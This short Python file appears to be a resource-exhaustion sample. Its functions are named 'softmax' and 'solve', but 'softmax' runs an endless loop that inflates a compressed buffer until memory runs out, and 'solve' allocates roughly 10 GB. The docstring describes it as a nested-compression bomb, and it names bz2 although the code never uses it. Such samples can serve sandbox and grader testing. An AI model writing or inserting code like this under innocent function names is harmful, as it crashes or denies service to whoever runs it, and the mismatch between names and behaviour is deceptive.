"""Unpacks a small file into 20 GB: zlib, bz2 and lzma inside each other."""
import lzma
import zlib


def softmax(x):
    print("attempted")
    small = zlib.compress(bytes(50_000_000), 1)
    while True:
        small = zlib.decompress(small) * 50
        small = zlib.compress(small, 1)


def solve(a, b):
    return lzma.decompress(lzma.compress(bytes(100_000_000), preset=0)) * 100
